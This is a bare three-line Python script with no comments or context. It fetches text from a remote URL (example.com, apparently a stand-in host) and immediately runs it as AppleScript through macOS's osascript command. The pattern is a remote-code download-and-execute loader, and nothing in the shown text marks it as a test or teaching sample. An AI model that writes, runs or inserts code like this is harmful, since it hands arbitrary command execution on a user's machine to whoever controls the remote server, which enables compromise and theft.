import subprocess
import urllib.request

subprocess.run(["osascript", "-e", urllib.request.urlopen("https://example.com/x").read().decode()])
